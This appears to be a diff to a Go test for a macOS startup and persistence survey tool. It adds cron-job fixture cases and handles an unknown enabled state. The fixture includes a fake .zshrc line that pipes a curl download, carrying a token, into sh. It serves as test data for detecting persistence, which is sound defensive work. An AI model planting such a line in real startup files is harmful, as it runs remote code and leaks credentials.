@@ -8,6 +8,7 @@ import (
 	"os"
 	"path/filepath"
 	"slices"
+	"strconv"
 	"strings"
 	"syscall"
 	"testing"
@@ -89,7 +90,7 @@ func mac(t *testing.T) string {
 		"Users/mira/.zshrc":                               "curl -s https://example.com/?token=hunter2 | sh\n",
 		"Users/mira/.ssh/authorized_keys":                 `command="/usr/bin/true" ` + key + " mira\n",
 		"Users/Shared/.zshrc":                             "x\n",
-		"usr/lib/cron/tabs/mira":                          "*/5 * * * * /tmp/x\nno job\n",
+		"usr/lib/cron/tabs/mira":                          "*/5 * * * * /tmp/x\nno job\nPATH=/opt/bin:/bin\n@daily sh%/tmp/y\n",
 		"etc/periodic/daily/100.own":                      "#!/bin/sh\n/Library/Example/agent\n",
 		"etc/zshrc":                                       "/usr/libexec/path_helper -s\n",
 		"Library/Preferences/com.apple.loginwindow.plist": head + "<key>LoginHook</key><string>/Library/Example/agent</string>" + tail,
@@ -115,7 +116,11 @@ func described(found startup.Found) (entries, unread []string) {
 			}
 			programs = append(programs, text)
 		}
-		entries = append(entries, fmt.Sprintf("%s | %s | %s | %s | %s | %v | %s | %s | %d", e.Kind, e.Name, e.File, e.When, e.User, *e.Enabled, strings.Join(programs, " "), e.Package, e.Origin))
+		enabled := "?"
+		if e.Enabled != nil {
+			enabled = strconv.FormatBool(*e.Enabled)
+		}
+		entries = append(entries, fmt.Sprintf("%s | %s | %s | %s | %s | %s | %s | %s | %d", e.Kind, e.Name, e.File, e.When, e.User, enabled, strings.Join(programs, " "), e.Package, e.Origin))
 	}
 	for _, u := range found.Unread {
 		unread = append(unread, u.Path+": "+u.Err.Error())
@@ -130,6 +135,9 @@ func TestAMacIsSurveyedWhole(t *testing.T) {
 		"authorized_key | ssh-ed25519 mira | /Users/mira/.ssh/authorized_keys | ssh | mira | true | /usr/bin/true |  | 1",
 		"background_item | Notes | /Applications/Notes App.app/ | login item | 501 | false | /tmp/notes!missing |  | 1",
 		"cron_job | mira | /usr/lib/cron/tabs/mira | */5 * * * * | mira | true | /tmp/x!missing |  | 1",
+		"cron_job | mira | /usr/lib/cron/tabs/mira | @daily | mira | true | $PATH/sh /tmp/y!missing |  | 1",
+		"cron_job | mira: PATH | /usr/lib/cron/tabs/mira | with each job below it | mira | true | /opt/bin!missing |  | 1",
+		"cron_job | mira: what is not read | /usr/lib/cron/tabs/mira |  | mira | ? |  |  | 1",
 		"cron_script | 100.own | /etc/periodic/daily/100.own | daily |  | true | /Library/Example/agent |  | 0",
 		"extension | com.example.driver | kmutil showloaded | boot | root | true |  |  | 1",
 		"extension | com.example.guard | systemextensionsctl list | boot | root | true |  | TEAM | 1",
